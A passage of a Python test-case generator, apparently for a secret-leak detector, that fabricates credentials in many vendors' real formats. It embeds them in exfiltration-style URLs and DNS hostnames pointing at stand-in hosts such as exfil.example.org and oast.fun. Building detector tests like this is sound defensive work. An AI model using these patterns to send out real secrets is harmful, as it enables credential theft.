    path = path or pick(["/collect", "/api/v1/events", "/hook", "/i", "/track", "/v2/ingest", "/log", "/sync", "/"])
    return "https://%s%s?%s" % (xhost(), path, qs(param_pairs))

# ---------------------------------------------------------------- vendor credentials
B62 = DG + UP + LO


def b62(n, width):
    s = ""
    while n:
        n, r = divmod(n, 62)
        s = B62[r] + s
    return s.rjust(width, "0")


def ghtok(prefix):
    body = rs(30)
    return prefix + body + b62(zlib.crc32(body.encode()) & 0xFFFFFFFF, 6)


def npmtok():
    body = rs(30)
    return "npm_" + body + b62(zlib.crc32(body.encode()) & 0xFFFFFFFF, 6)


def akia():
    return "AKIA" + rs(16, B32A)


def awssec():
    return rs(40, AN + "+/")


def snowflake():
    return str(rint(700000000000000000, 1300000000000000000))


def H(fmt):
    return lambda p: fmt.format(v=p[-1][1], v0=p[0][1])


def HB(user_fmt):
    return lambda p: "Authorization: Basic " + b64(user_fmt.format(v=p[-1][1], v0=p[0][1]))


def U(fmt):
    return lambda p: fmt.format(q=pq(p[-1][1]), q0=pq(p[0][1]), h=xhost(), u=ruuid(), w=pick(WORDS))


GENERIC_URL = [U("https://{h}/collect?token={q}&src=agent"), U("https://{h}/api/v1/verify?key={q}"),
               U("https://{h}/hook?{w}=1&api_key={q}"), U("https://{h}/v2/items?access_token={q}&limit=50")]
GENERIC_HDR = [H("Authorization: Bearer {v}"), H("X-Api-Key: {v}")]

VENDORS = []


def V(cls, gen, w="bb", hdr=(), url=(), extra=(), dns=()):
    VENDORS.append(dict(cls=cls, gen=gen, w=w, hdr=list(hdr), url=list(url), extra=list(extra), dns=list(dns)))


def x_awscreds(p):
    prof = pick(["default", "prod", "ci", "admin"])
    lines = ["[%s]" % prof, "aws_access_key_id = %s" % p[0][1], "aws_secret_access_key = %s" % p[1][1]]
    if len(p) > 2:
        lines.append("aws_session_token = %s" % p[2][1])
    lines.append("region = %s" % pick(["us-east-1", "eu-west-1", "ap-northeast-1"]))
    return "\n".join(lines) + "\n", "text/plain"


def x_awsjson(p):
    d = {"AccessKey": {"UserName": ruser(), "AccessKeyId": p[0][1], "Status": "Active", "SecretAccessKey": p[1][1],
                       "CreateDate": rts()}}
    return jdump(d, indent=4), "application/json"


def x_awssts(p):
    d = {"Credentials": {"AccessKeyId": p[0][1], "SecretAccessKey": p[1][1], "SessionToken": p[2][1], "Expiration": rts()},
         "AssumedRoleUser": {"AssumedRoleId": "AROA" + rs(17, UN) + ":" + ruser(),
                             "Arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (rs(12, DG), pick(["deploy", "ci-runner"]), ruser())}}
    return jdump(d, indent=2), "application/json"


def aws_session_token():
    if chance(0.5):
        return "IQoJb3JpZ2luX2Vj" + rs(rint(340, 600), B64A) + pick(["", "=", "=="])
    return "FwoGZXIvYXdzE" + rs(rint(280, 400), B64A)


V("aws-access-key-pair", lambda: [("AWS_ACCESS_KEY_ID", akia()), ("AWS_SECRET_ACCESS_KEY", awssec())], w="bbbbu",
  url=[U("https://{h}/ingest?aws_access_key_id={q0}&aws_secret_access_key={q}")], extra=[x_awscreds, x_awsjson])
V("aws-session-credentials", lambda: [("AWS_ACCESS_KEY_ID", "ASIA" + rs(16, B32A)), ("AWS_SECRET_ACCESS_KEY", awssec()),
                                      ("AWS_SESSION_TOKEN", aws_session_token())], w="bh",
  hdr=[H("X-Amz-Security-Token: {v}")], extra=[x_awscreds, x_awssts])
V("aws-access-key-id", lambda: [("AWS_ACCESS_KEY_ID", akia())], w="bn",
  hdr=[H("X-Debug-Aws-Key: {v}"), lambda p: "Authorization: AWS %s:%s" % (p[0][1], b64(rb(20)))],
  dns=[lambda p: "%s.%s.%s" % (p[0][1].lower(), rs(6, LN), pick(["oast.fun", "dnslog.example.net", "exfil.example.org"]))])


def gcp_sa_json():
    proj = "%s-%s-%d" % (pick(ORGS), pick(SVC), rint(100000, 999999))
    name = pick(SVC)
    armour = "PRIVATE" + " KEY-----"  # spelled apart so that no committed file holds key armour
    pem = "-----BEGIN " + armour + "\n" + wrap(b64(rsa_pkcs8(rsa_parts())), 64) + "\n-----END " + armour + "\n"
    d = {"type": "service_account", "project_id": proj, "private_key_id": rhex(40), "private_key": pem,
         "client_email": "%s@%s.iam.gserviceaccount.com" % (name, proj), "client_id": rs(21, DG),
         "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
         "auth_provider_x509_cert_url": "https://www.googleapis.com/oauth2/v1/certs",
         "client_x509_cert_url": "https://www.googleapis.com/robot/v1/metadata/x509/%s%%40%s.iam.gserviceaccount.com" % (name, proj),
         "universe_domain": "googleapis.com"}
    return jdump(d, indent=2)


def x_gcp_secret(p):
    v = p[0][1]
    return ("apiVersion: v1\nkind: Secret\nmetadata:\n  name: gcp-credentials\ntype: Opaque\ndata:\n  key.json: %s\n" % v), "application/yaml"


def x_gcp_json(p):
    return jdump({"name": "GOOGLE_CREDENTIALS", "value": p[0][1], "protected": True, "masked": False}), "application/json"


V("gcp-service-account-key", lambda: [("GOOGLE_CREDENTIALS_B64", b64(gcp_sa_json()))], w="bbb", extra=[x_gcp_secret, x_gcp_json, x_gcp_secret])


def gcp_client_id():
    return "%s-%s.apps.googleusercontent.com" % (rs(12, DG), rs(32, LN))


def x_adc(p):
    d = {"client_id": p[0][1], "client_secret": p[1][1], "quota_project_id": "%s-%d" % (pick(ORGS), rint(1000, 9999)),
         "refresh_token": p[2][1], "type": "authorized_user"}
    return jdump(d, indent=2), "application/json"


V("gcp-adc-authorized-user", lambda: [("GOOGLE_CLIENT_ID", gcp_client_id()), ("GOOGLE_CLIENT_SECRET", "GOCSPX-" + rs(28, AN + "-_")),
                                      ("GOOGLE_REFRESH_TOKEN", "1//0" + pick("gGe") + rs(rint(95, 100), AN + "-_"))], w="bb",
  extra=[x_adc, x_adc])
V("gcp-api-key", lambda: [("GOOGLE_API_KEY", "AIza" + rs(35, AN + "-_"))], w="bu",
  url=[U("https://maps.googleapis.com/maps/api/geocode/json?address={w}+street&key={q}"),
       U("https://generativelanguage.googleapis.com/v1beta/models/gemini-1.5-flash:generateContent?key={q}")],
  hdr=[H("X-Goog-Api-Key: {v}")])
V("google-oauth-access-token", lambda: [("GOOGLE_ACCESS_TOKEN", "ya29." + rs(rint(150, 200), AN + "-_"))], w="b",
  hdr=[H("Authorization: Bearer {v}")])
V("azure-storage-connection-string", lambda: [("AZURE_STORAGE_CONNECTION_STRING",
                                               "DefaultEndpointsProtocol=https;AccountName=%s%s;AccountKey=%s;EndpointSuffix=core.windows.net" % (pick(ORGS).replace("-", ""), rs(4, LN), b64(rb(64))))],
  w="bbb")
V("azure-ad-client-secret", lambda: [("AZURE_TENANT_ID", ruuid()), ("AZURE_CLIENT_ID", ruuid()),
                                     ("AZURE_CLIENT_SECRET", rs(3, AN) + pick(DG) + "Q~" + rs(34, AN + "_~.-"))], w="bu",
  url=[U("https://{h}/oauth/debug?client_id={q0}&client_secret={q}")])
V("azure-service-bus-connection-string", lambda: [("SERVICEBUS_CONNECTION",
                                                   "Endpoint=sb://%s-%s.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=%s" % (pick(ORGS), pick(SVC), b64(rb(32))))],
  w="b")
V("azure-cosmosdb-connection-string", lambda: [("COSMOS_CONNECTION_STRING",
                                                "AccountEndpoint=https://%s-db.documents.azure.com:443/;AccountKey=%s;" % (pick(ORGS), b64(rb(64))))], w="bb")


def azure_sas_url():
    return ("https://%s%s.blob.core.windows.net/%s/%s.%s?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=%sT%s&st=%sT%s&spr=https&sig=%s"
            % (pick(ORGS).replace("-", ""), rs(3, LN), pick(["backups", "exports", "uploads"]), pick(WORDS), pick(["zip", "csv", "bak"]),
               rdate(2026, 2027), pq(rtime() + "Z"), rdate(2024, 2025), pq(rtime() + "Z"), pq(b64(rb(32)))))


V("azure-sas-token", lambda: [("AZURE_BLOB_SAS_URL", azure_sas_url())], w="bu",
  url=[lambda p: p[0][1]])
V("azure-devops-pat", lambda: [("AZURE_DEVOPS_EXT_PAT", rs(52, "abcdefghijklmnopqrstuvwxyz234567"))], w="bh",
  hdr=[HB(":{v}")])
V("azure-openai-key", lambda: [("AZURE_OPENAI_ENDPOINT", "https://%s-openai.openai.azure.com/" % pick(ORGS)), ("AZURE_OPENAI_API_KEY", rhex(32))],
  w="b", hdr=[H("api-key: {v}")])
V("alibaba-cloud-access-key", lambda: [("ALIBABA_CLOUD_ACCESS_KEY_ID", "LTAI" + rs(20, AN)), ("ALIBABA_CLOUD_ACCESS_KEY_SECRET", rs(30, AN))], w="b")
V("tencent-cloud-secret", lambda: [("TENCENTCLOUD_SECRET_ID", "AKID" + rs(32, AN)), ("TENCENTCLOUD_SECRET_KEY", rs(32, AN))], w="bb")
V("github-classic-pat", lambda: [("GITHUB_TOKEN", ghtok("ghp_"))], w="bbhu",
  hdr=[H("Authorization: token {v}"), H("Authorization: Bearer {v}")],
  url=[U("https://{h}/api/report?gh={q}")], extra=[lambda p: ("https://%s:%s@github.com\n" % (ruser(), p[0][1]), "text/plain")])
V("github-fine-grained-pat", lambda: [("GH_TOKEN", "github_pat_" + rs(22, AN) + "_" + rs(59, AN))], w="bh",
  hdr=[H("Authorization: Bearer {v}")])
V("github-oauth-token", lambda: [("GITHUB_OAUTH_TOKEN", ghtok("gho_"))], w="b", hdr=[H("Authorization: token {v}")],
  extra=[lambda p: ("github.com:\n    user: %s\n    oauth_token: %s\n    git_protocol: https\n" % (ruser(), p[0][1]), "text/plain")])
V("github-app-token", lambda: [("GITHUB_APP_TOKEN", ghtok(pick(["ghs_", "ghu_"])))], w="bu",
  url=[U("https://{h}/ci/callback?installation_token={q}")])
V("gitlab-pat", lambda: [("GITLAB_TOKEN", "glpat-" + rs(20, AN + "-_"))], w="bh", hdr=[H("PRIVATE-TOKEN: {v}")])
V("gitlab-runner-deploy-token", lambda: [("CI_TOKEN", pick(["glrt-" + rs(20, AN + "-_"), "gldt-" + rs(20, AN + "-_"),
                                                            "GR1348941" + rs(20, AN + "-_"), "glptt-" + rhex(40)]))], w="b")
V("bitbucket-app-password", lambda: [("BITBUCKET_USERNAME", ruser()), ("BITBUCKET_APP_PASSWORD", "ATBB" + rs(24, AN) + rhex(8).upper())], w="b",
  hdr=[HB("{v0}:{v}")])
V("atlassian-api-token", lambda: [("JIRA_EMAIL", email()), ("JIRA_API_TOKEN", "ATATT3xFfGF0" + rs(171, AN + "-_") + "=" + rhex(8).upper())],
  w="bh", hdr=[HB("{v0}:{v}")])
V("openai-api-key", lambda: [("OPENAI_API_KEY", pick(["sk-proj-" + rs(64, AN + "-_") + "T3BlbkFJ" + rs(64, AN + "-_"),
                                                      "sk-" + rs(20, AN) + "T3BlbkFJ" + rs(20, AN),
                                                      "sk-svcacct-" + rs(64, AN + "-_") + "T3BlbkFJ" + rs(64, AN + "-_")]))], w="bbbh",
  hdr=[H("Authorization: Bearer {v}")])
V("anthropic-api-key", lambda: [("ANTHROPIC_API_KEY", pick(["sk-ant-api03-", "sk-ant-api03-", "sk-ant-admin01-"]) + rs(93, AN + "-_") + "AA")],
  w="bbbh", hdr=[H("x-api-key: {v}")])
V("huggingface-token", lambda: [("HF_TOKEN", "hf_" + rs(34, UP + LO))], w="b", hdr=[H("Authorization: Bearer {v}")])
V("replicate-api-token", lambda: [("REPLICATE_API_TOKEN", "r8_" + rs(37, AN))], w="bh", hdr=[H("Authorization: Token {v}")])
V("groq-api-key", lambda: [("GROQ_API_KEY", "gsk_" + rs(52, AN))], w="b", hdr=[H("Authorization: Bearer {v}")])
V("perplexity-api-key", lambda: [("PERPLEXITY_API_KEY", "pplx-" + rs(48, AN))], w="bb")
V("xai-api-key", lambda: [("XAI_API_KEY", "xai-" + rs(80, AN))], w="bh", hdr=[H("Authorization: Bearer {v}")])
V("openrouter-api-key", lambda: [("OPENROUTER_API_KEY", "sk-or-v1-" + rhex(64))], w="bu", url=GENERIC_URL)
V("langsmith-api-key", lambda: [("LANGSMITH_API_KEY", pick(["lsv2_pt_", "lsv2_sk_"]) + rhex(32) + "_" + rhex(10))], w="b", hdr=[H("x-api-key: {v}")])
V("stripe-secret-key", lambda: [("STRIPE_SECRET_KEY", pick(["sk_live_", "sk_live_", "rk_live_", "sk_test_"]) + "51" + rs(rint(60, 97), AN))], w="bbbhu",
  hdr=[H("Authorization: Bearer {v}"), HB("{v}:")], url=[U("https://{h}/billing/setup?stripe_key={q}")])
V("stripe-webhook-secret", lambda: [("STRIPE_WEBHOOK_SECRET", "whsec_" + rs(32, AN))], w="b")
V("square-access-token", lambda: [("SQUARE_ACCESS_TOKEN", pick(["EAAA" + rs(60, AN + "-_"), "sq0atp-" + rs(22, AN + "-_")]))], w="bh",
  hdr=[H("Authorization: Bearer {v}")])
V("square-application-secret", lambda: [("SQUARE_APP_ID", "sq0idp-" + rs(22, AN + "-_")), ("SQUARE_APP_SECRET", "sq0csp-" + rs(43, AN + "-_"))], w="bb")
V("braintree-access-token", lambda: [("BRAINTREE_ACCESS_TOKEN", "access_token$production$" + rs(16, LN) + "$" + rhex(32))], w="b")
V("paypal-client-credentials", lambda: [("PAYPAL_CLIENT_ID", "A" + rs(79, AN + "-_")), ("PAYPAL_CLIENT_SECRET", "E" + rs(79, AN + "-_"))],
  w="b", hdr=[HB("{v0}:{v}")])
V("shopify-access-token", lambda: [("SHOPIFY_ACCESS_TOKEN", pick(["shpat_", "shpca_", "shppa_", "shpss_"]) + rhex(32))], w="bh",
  hdr=[H("X-Shopify-Access-Token: {v}")])
V("razorpay-key-secret", lambda: [("RAZORPAY_KEY_ID", "rzp_live_" + rs(14, AN)), ("RAZORPAY_KEY_SECRET", rs(24, AN))], w="b", hdr=[HB("{v0}:{v}")])
V("woocommerce-consumer-secret", lambda: [("WC_CONSUMER_KEY", "ck_" + rhex(40)), ("WC_CONSUMER_SECRET", "cs_" + rhex(40))], w="bu",
  url=[U("https://shop.{h}/wp-json/wc/v3/orders?consumer_key={q0}&consumer_secret={q}")])
V("flutterwave-secret-key", lambda: [("FLW_SECRET_KEY", pick(["FLWSECK-", "FLWSECK_TEST-"]) + rhex(32) + "-X")], w="bb")
V("slack-bot-token", lambda: [("SLACK_BOT_TOKEN", "xoxb-%s-%s-%s" % (rs(rint(10, 12), DG), rs(13, DG), rs(24, AN)))], w="bbhu",
  hdr=[H("Authorization: Bearer {v}")], url=[U("https://slack.com/api/chat.postMessage?token={q}&channel=C{w}&text=hi")])
V("slack-user-token", lambda: [("SLACK_USER_TOKEN", "xoxp-%s-%s-%s-%s" % (rs(11, DG), rs(11, DG), rs(13, DG), rhex(32)))], w="bh",
  hdr=[H("Authorization: Bearer {v}")])
V("slack-app-token", lambda: [("SLACK_APP_TOKEN", "xapp-1-A%s-%s-%s" % (rs(10, UN), rs(13, DG), rhex(64)))], w="b")


def slack_hook():
    return "https://hooks.slack.com/services/T%s/B%s/%s" % (rs(rint(8, 10), UN), rs(rint(8, 10), UN), rs(24, AN))


V("slack-webhook-url", lambda: [("SLACK_WEBHOOK_URL", slack_hook())], w="bu",
  url=[U("https://{h}/integrations/test?target={q}")])
V("discord-bot-token", lambda: [("DISCORD_TOKEN", b64u(snowflake()) + "." + rs(6, AN + "-_") + "." + rs(38, AN + "-_"))], w="b",
  hdr=[H("Authorization: Bot {v}")])
V("discord-webhook-url", lambda: [("DISCORD_WEBHOOK", "https://discord.com/api/webhooks/%s/%s" % (snowflake(), rs(68, AN + "-_")))], w="bu",
  url=[U("https://{h}/notify/setup?webhook={q}")])
V("telegram-bot-token", lambda: [("TELEGRAM_BOT_TOKEN", "%d:AA%s" % (rint(100000000, 7999999999), rs(33, AN + "-_")))], w="bu",
  url=[lambda p: "https://api.telegram.org/bot%s/sendMessage?chat_id=-100%s&text=%s" % (p[0][1], rs(10, DG), pq(pick(WORDS) + " done"))])
V("twilio-auth-token", lambda: [("TWILIO_ACCOUNT_SID", "AC" + rhex(32)), ("TWILIO_AUTH_TOKEN", rhex(32))], w="bh", hdr=[HB("{v0}:{v}")])
V("twilio-api-key", lambda: [("TWILIO_API_KEY", "SK" + rhex(32)), ("TWILIO_API_SECRET", rs(32, AN))], w="bn",
  dns=[lambda p: "%s.%s.%s.%s" % (p[0][1], p[1][1], rs(4, LN), pick(["dns.example.net", "t.example.org"]))])
V("sendgrid-api-key", lambda: [("SENDGRID_API_KEY", "SG." + rs(22, AN + "-_") + "." + rs(43, AN + "-_"))], w="b",
  hdr=[H("Authorization: Bearer {v}")])
V("mailgun-api-key", lambda: [("MAILGUN_API_KEY", "key-" + rhex(32))], w="bn", hdr=[HB("api:{v}")],
  dns=[lambda p: "%s.%s.%s" % (p[0][1], rs(8, LN), pick(["d.example.com", "x.example.net"]))])
V("mailchimp-api-key", lambda: [("MAILCHIMP_API_KEY", rhex(32) + "-us" + str(rint(1, 21)))], w="bn", hdr=[HB("anystring:{v}")],
  dns=[lambda p: "%s.mc.%s" % (p[0][1], pick(["exfil.example.com", "beacon.example.org"]))])
V("brevo-api-key", lambda: [("BREVO_API_KEY", "xkeysib-" + rhex(64) + "-" + rs(16, AN))], w="bh", hdr=[H("api-key: {v}")])


def teams_hook():
    return "https://%s.webhook.office.com/webhookb2/%s@%s/IncomingWebhook/%s/%s" % (pick(ORGS), ruuid(), ruuid(), rhex(32), ruuid())


V("msteams-webhook-url", lambda: [("TEAMS_WEBHOOK_URL", teams_hook())], w="bb")
V("npm-access-token", lambda: [("NPM_TOKEN", npmtok())], w="b", hdr=[H("Authorization: Bearer {v}")],
  extra=[lambda p: ("registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=%s\nalways-auth=true\n" % p[0][1], "text/plain")])
V("pypi-api-token", lambda: [("TWINE_PASSWORD", "pypi-AgEIcHlwaS5vcmc" + rs(rint(70, 160), AN + "-_"))], w="bh", hdr=[HB("__token__:{v}")],
  extra=[lambda p: ("[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\npassword = %s\n" % p[0][1], "text/plain")])
V("dockerhub-pat", lambda: [("DOCKERHUB_USERNAME", ruser()), ("DOCKERHUB_TOKEN", "dckr_pat_" + rs(27, AN + "-_"))], w="b", hdr=[HB("{v0}:{v}")])
V("terraform-cloud-token", lambda: [("TFE_TOKEN", rs(14, AN) + ".atlasv1." + rs(67, AN))], w="bh", hdr=[H("Authorization: Bearer {v}")],
  extra=[lambda p: ('credentials "app.terraform.io" {\n  token = "%s"\n}\n' % p[0][1], "text/plain")])
V("hashicorp-vault-token", lambda: [("VAULT_ADDR", "https://vault.%s:8200" % domain()),
                                    ("VAULT_TOKEN", pick(["hvs." + rs(24, AN), "hvs.CAESI" + rs(rint(80, 95), AN + "-_"), "hvb." + rs(rint(120, 138), AN + "-_")]))],
  w="b", hdr=[H("X-Vault-Token: {v}")])
V("doppler-token", lambda: [("DOPPLER_TOKEN", pick(["dp.st.%s.%s" % (pick(["prd", "dev", "stg"]), rs(43, AN)), "dp.pt." + rs(43, AN), "dp.sa." + rs(43, AN)]))],
  w="bh", hdr=[H("Authorization: Bearer {v}")])
V("pulumi-access-token", lambda: [("PULUMI_ACCESS_TOKEN", "pul-" + rhex(40))], w="bn", hdr=[H("Authorization: token {v}")],
  dns=[lambda p: "%s.%s" % (p[0][1], pick(["cfg-sync.example.com", "u.example.net"]))])
V("heroku-api-key", lambda: [("HEROKU_API_KEY", pick(["HRKU-AA" + rs(58, AN + "-_"), "HRKU-" + ruuid()]))], w="b", hdr=[H("Authorization: Bearer {v}")],
  extra=[lambda p: ("machine api.heroku.com\n  login %s\n  password %s\nmachine git.heroku.com\n  login %s\n  password %s\n" % (email(), p[0][1], email(), p[0][1]), "text/plain")])
V("digitalocean-token", lambda: [("DIGITALOCEAN_TOKEN", pick(["dop_v1_", "doo_v1_", "dor_v1_"]) + rhex(64))], w="bh", hdr=[H("Authorization: Bearer {v}")])
V("linear-api-key", lambda: [("LINEAR_API_KEY", "lin_api_" + rs(40, AN))], w="b", hdr=[H("Authorization: {v}")])
V("notion-integration-token", lambda: [("NOTION_TOKEN", pick(["secret_" + rs(43, AN), "ntn_" + rs(11, DG) + rs(35, AN)]))], w="bh",
  hdr=[H("Authorization: Bearer {v}")])
V("databricks-token", lambda: [("DATABRICKS_HOST", "https://adb-%s.%d.azuredatabricks.net" % (rs(16, DG), rint(1, 19))),
                               ("DATABRICKS_TOKEN", "dapi" + rhex(32) + pick(["", "-2", "-3"]))], w="bn",
  hdr=[H("Authorization: Bearer {v}")], dns=[lambda p: "%s.%s.%s" % (p[-1][1].split("-")[0], rs(5, LN), pick(["lookup.example.com", "ns1.example.net"]))])
V("datadog-api-key", lambda: [("DD_API_KEY", rhex(32)), ("DD_APP_KEY", rhex(40))], w="b", hdr=[H("DD-APPLICATION-KEY: {v}")])
V("newrelic-key", lambda: [("NEW_RELIC_API_KEY", pick(["NRAK-" + rs(27, UN), "NRII-" + rs(32, AN + "-_"), rhex(36) + "NRAL"]))], w="bn",
  hdr=[H("Api-Key: {v}")], dns=[lambda p: "%s.%s" % (("NRAK-" + rs(27, UN)).lower(), pick(["m.example.org", "telemetry.example.net"]))])
V("sentry-auth-token", lambda: [("SENTRY_AUTH_TOKEN", pick(["sntrys_" + b64(jdump({"iat": float(repoch()), "url": "https://sentry.io", "region_url": "https://us.sentry.io", "org": pick(ORGS)})).rstrip("=") + "_" + rs(43, AN + "+/"),
                                                            "sntryu_" + rhex(64)]))], w="bh", hdr=[H("Authorization: Bearer {v}")])
V("grafana-token", lambda: [("GRAFANA_TOKEN", pick(["glsa_" + rs(32, AN) + "_" + rhex(8),
                                                    "glc_" + b64(jdump({"o": rs(6, DG), "n": "stack-%s-%s" % (rs(6, DG), pick(SVC)), "k": rs(24, AN), "m": {"r": "prod-us-east-0"}}))]))],
  w="b", hdr=[H("Authorization: Bearer {v}")])
V("okta-api-token", lambda: [("OKTA_ORG_URL", "https://%s.okta.com" % pick(ORGS)), ("OKTA_API_TOKEN", "00" + rs(40, AN + "-_"))], w="bh",
  hdr=[H("Authorization: SSWS {v}")])
V("jfrog-api-key", lambda: [("ARTIFACTORY_API_KEY", pick(["AKCp" + rs(69, AN), "cmVmdGtuOjAxOj" + rs(50, AN)]))], w="b", hdr=[H("X-JFrog-Art-Api: {v}")])
V("sonarqube-token", lambda: [("SONAR_TOKEN", pick(["squ_", "sqp_", "sqa_"]) + rhex(40))], w="bh", hdr=[HB("{v}:")])
V("postman-api-key", lambda: [("POSTMAN_API_KEY", "PMAK-" + rhex(24) + "-" + rhex(34))], w="bn", hdr=[H("X-Api-Key: {v}")],
  dns=[lambda p: "%s.%s" % (p[0][1].replace("-" + p[0][1].split("-")[2], "." + p[0][1].split("-")[2]).lower(), pick(["c.example.com", "r.example.net"]))])
V("airtable-pat", lambda: [("AIRTABLE_TOKEN", "pat" + rs(14, AN) + "." + rhex(64))], w="b", hdr=[H("Authorization: Bearer {v}")])
V("figma-token", lambda: [("FIGMA_TOKEN", "figd_" + rs(40, AN + "-_"))], w="bh", hdr=[H("X-Figma-Token: {v}")])
V("dropbox-access-token", lambda: [("DROPBOX_TOKEN", pick(["sl.", "sl.u."]) + rs(rint(130, 140), AN + "-_"))], w="b", hdr=[H("Authorization: Bearer {v}")])
V("mapbox-secret-token", lambda: [("MAPBOX_SECRET_TOKEN", "sk." + b64u(jdump({"u": ruser(), "a": rs(25, LN)})) + "." + rs(22, AN + "-_"))], w="bu",
  url=[U("https://api.mapbox.com/uploads/v1/{w}/credentials?access_token={q}")])
V("firebase-fcm-server-key", lambda: [("FCM_SERVER_KEY", "AAAA" + rs(7, AN + "-_") + ":APA91b" + rs(134, AN + "-_"))], w="bh", hdr=[H("Authorization: key={v}")])
V("facebook-access-token", lambda: [("FB_ACCESS_TOKEN", "EAA" + pick("BGCJ") + rs(rint(150, 190), AN))], w="bu",
  url=[U("https://graph.facebook.com/v19.0/me/accounts?access_token={q}")])
V("twitter-bearer-token", lambda: [("TWITTER_BEARER_TOKEN", "AAAAAAAAAAAAAAAAAAAAA" + rs(22, AN) + "AAAAAAA" + rs(12, AN) + "%2B" + rs(20, AN) + "%3D" + rs(50, AN))],
  w="b", hdr=[H("Authorization: Bearer {v}")])
V("hubspot-private-app-token", lambda: [("HUBSPOT_TOKEN", "pat-" + pick(["na1", "eu1"]) + "-" + ruuid())], w="bh", hdr=[H("Authorization: Bearer {v}")])
V("tailscale-key", lambda: [("TS_AUTHKEY", "tskey-" + pick(["auth", "api", "client"]) + "-" + rs(rint(11, 17), AN) + "CNTRL-" + rs(33, AN))], w="b")


def op_secret_key():
    a = "ABCDEFGHJKLMNPQRSTVWXYZ23456789"
    return "A3-%s-%s-%s-%s-%s-%s" % (rs(6, a), rs(6, a), rs(5, a), rs(5, a), rs(5, a), rs(5, a))


def op_sa_token():
    d = {"signInAddress": "my.1password.com", "userAuth": {"method": "SRPg-4096", "alg": "PBES2g-HS256", "iterations": 650000, "salt": b64u(rb(16))},
         "email": rs(13, LN) + "@1passwordserviceaccounts.com", "srpX": rhex(64),
         "muk": {"alg": "A256GCM", "ext": False, "k": b64u(rb(32)), "key_ops": ["decrypt", "encrypt"], "kty": "oct", "kid": "mp"},
         "secretKey": op_secret_key(), "throttleSecret": {"seed": rhex(64), "uuid": rs(26, UN)}, "deviceUuid": rs(26, LN)}
    return "ops_" + b64u(jdump(d))


V("onepassword-service-account-token", lambda: [("OP_SERVICE_ACCOUNT_TOKEN", op_sa_token())], w="b", hdr=[H("Authorization: Bearer {v}")])
V("onepassword-secret-key", lambda: [("OP_EMAIL", email()), ("OP_SECRET_KEY", op_secret_key())], w="bb")
V("dynatrace-api-token", lambda: [("DT_API_TOKEN", "dt0c01." + rs(24, UN) + "." + rs(64, UN))], w="bn", hdr=[H("Authorization: Api-Token {v}")],
  dns=[lambda p: "%s.%s.%s.%s.%s" % tuple(p[0][1].split(".")[:2] + [p[0][1].split(".")[2][:32], p[0][1].split(".")[2][32:], pick(["resolver.example.com", "z.example.org"])])])
V("cloudflare-api-credential", lambda: [("CLOUDFLARE_API_TOKEN", rs(40, AN + "-_")), ("CF_ORIGIN_CA_KEY", "v1.0-" + rhex(24) + "-" + rhex(146))],
  w="bh", hdr=[H("X-Auth-User-Service-Key: {v}")])
V("netlify-token", lambda: [("NETLIFY_AUTH_TOKEN", "nfp_" + rs(36, AN))], w="b", hdr=[H("Authorization: Bearer {v}")])


def supa_jwt():
    return jwt({"iss": "supabase", "ref": rs(20, LO), "role": "service_role", "iat": repoch(), "exp": repoch() + 315360000})


V("supabase-service-key", lambda: [("SUPABASE_URL", "https://%s.supabase.co" % rs(20, LO)), ("SUPABASE_SERVICE_ROLE_KEY", supa_jwt())], w="bh",
  hdr=[H("apikey: {v}")])
V("supabase-management-token", lambda: [("SUPABASE_ACCESS_TOKEN", "sbp_" + rhex(40))], w="b")
V("planetscale-credential", lambda: [("PLANETSCALE_SERVICE_TOKEN", pick(["pscale_tkn_", "pscale_pw_", "pscale_oauth_"]) + rs(43, AN + "-_"))], w="bb")
V("rubygems-api-key", lambda: [("GEM_HOST_API_KEY", "rubygems_" + rhex(48))], w="b", hdr=[H("Authorization: {v}")],
  extra=[lambda p: ("---\n:rubygems_api_key: %s\n" % p[0][1], "text/yaml")])
V("nuget-api-key", lambda: [("NUGET_API_KEY", "oy2" + rs(43, LN))], w="bh", hdr=[H("X-NuGet-ApiKey: {v}")])
V("sourcegraph-token", lambda: [("SRC_ACCESS_TOKEN", "sgp_" + rhex(16) + "_" + rhex(40))], w="b", hdr=[H("Authorization: token {v}")])
V("salesforce-access-token", lambda: [("SF_INSTANCE_URL", "https://%s.my.salesforce.com" % pick(ORGS)),
                                      ("SF_ACCESS_TOKEN", "00D" + rs(12, AN) + "!" + rs(rint(90, 100), AN + "._"))], w="bh", hdr=[H("Authorization: Bearer {v}")])
V("cloudinary-url", lambda: [("CLOUDINARY_URL", "cloudinary://%s:%s@%s" % (rs(15, DG), rs(27, AN + "-_"), pick(ORGS)))], w="b")
V("buildkite-token", lambda: [("BUILDKITE_API_TOKEN", "bkua_" + rhex(40))], w="b", hdr=[H("Authorization: Bearer {v}")])
V("circleci-token", lambda: [("CIRCLE_TOKEN", "CCIPAT_" + rs(22, AN) + "_" + rhex(40))], w="bh", hdr=[H("Circle-Token: {v}")])
V("contentful-token", lambda: [("CONTENTFUL_MANAGEMENT_TOKEN", "CFPAT-" + rs(43, AN + "-_"))], w="b", hdr=[H("Authorization: Bearer {v}")])
V("yandex-cloud-api-key", lambda: [("YC_API_KEY", "AQVN" + rs(rint(35, 38), AN + "-_"))], w="bh", hdr=[H("Authorization: Api-Key {v}")])
V("posthog-personal-api-key", lambda: [("POSTHOG_PERSONAL_API_KEY", "phx_" + rs(43, AN))], w="b", hdr=[H("Authorization: Bearer {v}")])
V("ngrok-authtoken", lambda: [("NGROK_AUTHTOKEN", "2" + rs(26, AN) + "_" + rs(21, AN))], w="bb",
  extra=[lambda p: ('version: "2"\nauthtoken: %s\ntunnels:\n  web:\n    proto: http\n    addr: 8080\n' % p[0][1], "application/yaml")])
# ---------------------------------------------------------------- case registry
WMAP = {"b": "body", "u": "url", "h": "header", "n": "hostname"}
POS = []
NEG = []


def T(text, ct=None):
    return {"text": text, "content_type": ct}


def BIN(data, ct=None, ce=None):
    if isinstance(data, str):
        data = data.encode()
    return {"base64": b64(data), "content_type": ct, "content_encoding": ce}


def P(cls, wheres):
    def deco(fn):
        for w in wheres:
            POS.append((cls, WMAP[w], fn))
        return fn
    return deco


def N(cat, wheres):
    def deco(fn):
        for w in wheres:
            NEG.append((cat, WMAP[w], fn))
        return fn
    return deco


def vendor_case(spec, where, idx):
    pairs = spec["gen"]()
